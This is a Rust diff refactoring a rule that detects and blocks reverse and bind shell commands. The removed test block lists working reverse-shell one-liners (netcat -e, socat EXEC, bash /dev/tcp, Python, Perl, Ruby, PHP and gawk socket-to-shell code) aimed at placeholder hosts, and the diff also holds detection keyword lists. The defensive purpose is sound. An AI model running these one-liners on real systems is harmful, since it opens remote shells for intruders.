@@ -1,49 +1,14 @@
-//! A shell whose input and output are somebody else's: reverse and bind shells.
+//! A shell whose input and output belong to a remote party: reverse and bind shells.
 
-use super::Rule;
-use super::interpreter::{Language, Source, code, source};
 use super::view::{Program, View};
+use crate::catalogue::{calls, given, mentions};
 use crate::command::{Command, Redirect, Surroundings, Word};
 use crate::read::Reading;
-
-pub(super) const RULE: Rule = Rule {
-    id: "shell.block.backdoor",
-    key: "shell-block-backdoor",
-    breaks,
-    matches: &[
-        "nc -e /bin/sh 10.0.0.1 44",
-        "ncat --exec /bin/bash -l 44",
-        "nc -lvnpe 44 /bin/sh; nc -lve /bin/sh",
-        "socat TCP-LISTEN:44 EXEC:/bin/bash,pty",
-        "bash -i >& /dev/tcp/10.0.0.1/44 0>&1",
-        "sh -i 5<> /dev/tcp/10.0.0.1/44 0<&5 1>&5 2>&5",
-        "exec 5<>/dev/tcp/10.0.0.1/44; sh <&5 >&5",
-        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"x\",4));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
-        "perl -e 'use Socket;socket(S,2,1,6);connect(S,x);open(STDIN,\">&S\");exec(\"/bin/sh -i\")'",
-        "ruby -rsocket -e 's=TCPSocket.new(\"x\",4);exec sprintf(\"/bin/sh -i <&%d\",s.fileno)'",
-        "php -r '$s=fsockopen(\"x\",4);exec(\"/bin/sh -i <&3 >&3\");'",
-        "mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 44 > f",
-        "gawk 'BEGIN{s=\"/inet/tcp/0/x/44\";while(1){s |& getline c;c | getline}}'",
-    ],
-    spares: &[
-        "nc -z localhost 80",
-        "nc -l 8080",
-        "socat - UNIX-CONNECT:/tmp/x",
-        "cat < /dev/tcp/x.io/80",
-        "exec 3<>/dev/tcp/x.io/80",
-        "python3 -c 'import socket; print(socket.gethostname())'",
-        "grep -rn socket src",
-        "bash -i",
-        "mkfifo f",
-        "echo 'nc -e /bin/sh'",
-        "timeout 1 bash -c 'echo > /dev/tcp/localhost/80'",
-        "node -e 'require(\"net\").createServer().listen(0)'",
-    ],
-};
+use crate::unwrap::{Source, option_values};
 
 const NETCATS: &str = "nc ncat netcat nc.traditional nc.openbsd rustcat";
 
-fn breaks(view: &View<'_>) -> Option<String> {
+pub(super) fn breaks(view: &View<'_>) -> Option<String> {
     let does = if view.program.is_any(NETCATS) {
         netcat(view.command.operands())
     } else if view.program.is("socat") {
@@ -55,25 +20,13 @@ fn breaks(view: &View<'_>) -> Option<String> {
 }
 
 fn netcat(words: &[Word]) -> bool {
-    let mut words = words.iter().map(|word| word.literal().unwrap_or_else(|| word.prefix())).peekable();
-    while let Some(text) = words.next() {
-        if let Some(name) = text.strip_prefix("--") {
-            let name = name.split('=').next().unwrap_or(name);
-            if name.len() > 1 && ["exec", "sh-exec", "lua-exec"].iter().any(|long| long.starts_with(name)) {
-                return true;
-            }
-        } else if let Some(letters) = text.strip_prefix('-') {
-            // `-c` is TLS to one netcat and a command to another: a command has a path or a blank in it.
-            let commands = letters.ends_with('c')
-                && words
-                    .peek()
-                    .is_some_and(|next| next.contains(['/', ' ']) || next.ends_with("sh") || next.is_empty());
-            if letters.contains('e') || commands {
-                return true;
-            }
-        }
-    }
-    false
+    // `-c` is TLS to one netcat and a command to another: a command has a path or a blank in it.
+    let is_command = |word: &Word| {
+        let text = word.prefix();
+        text.is_empty() || text.contains(['/', ' ']) || text.ends_with("sh")
+    };
+    words.iter().any(|word| given(word.prefix(), "-e --exec --sh-exec --lua-exec"))
+        || option_values(words, "-c").iter().any(is_command)
 }
 
 fn socat(view: &View<'_>) -> bool {
@@ -96,18 +49,8 @@ fn is_wire(redirect: &Redirect) -> bool {
 }
 
 fn waits_for_orders(command: &Command, program: &Program) -> bool {
-    Language::of(program).is_some_and(|language| {
-        let interactive = command
-            .operands()
-            .iter()
-            .filter_map(Word::literal)
-            .any(|text| text.starts_with('-') && !text.starts_with("--") && text.contains('i'));
-        match source(language, command.operands()) {
-            Source::Stdin => command.input.text.is_none(),
-            Source::File(_) | Source::Code(_) => false,
-            Source::Nothing => interactive && language == Language::Shell,
-        }
-    })
+    let runs = program.runs(command.operands());
+    matches!(runs, Some((_, Source::Stdin))) && command.input.text.is_none()
 }
 
 fn by_shell(command: &Command, program: &Program) -> bool {
@@ -118,38 +61,7 @@ fn by_code(view: &View<'_>) -> bool {
     if view.program.is_any("awk gawk") {
         return view.texts().any(|text| text.contains("/inet/") && text.contains("|&"));
     }
-    let Some(language) = Language::of(view.program).filter(|language| *language != Language::Shell) else {
-        return false;
-    };
-    let words = view.command.operands();
-    let Some(text) = code(language, words).map(ToString::to_string) else { return false };
-    const WIRES: &str = "socket.socket socket( Socket TCPSocket fsockopen pfsockopen net.connect net.Socket socket.tcp \
-        createConnection create_connection stream_socket_client";
-    const RUNS: [&str; 22] = [
-        "dup2",
-        "pty.spawn",
-        "subprocess",
-        "os.system",
-        "/bin/sh",
-        "/bin/bash",
-        "exec(",
-        "exec ",
-        "exec{",
-        "child_process",
-        "shell_exec",
-        "passthru",
-        "proc_open",
-        "popen",
-        "os.execute",
-        "io.popen",
-        "system(",
-        "system ",
-        "system$",
-        "IO.popen",
-        "execl",
-        "execv",
-    ];
-    WIRES.split(' ').any(|wire| text.contains(wire)) && RUNS.iter().any(|run| text.contains(run))
+    view.code().is_some_and(|text| mentions(&text, calls::CONNECTS) && mentions(&text, calls::SHELLS_OUT))
 }
 
 /// A shell and a wire that only the whole text puts together: through a descriptor, through a named pipe.
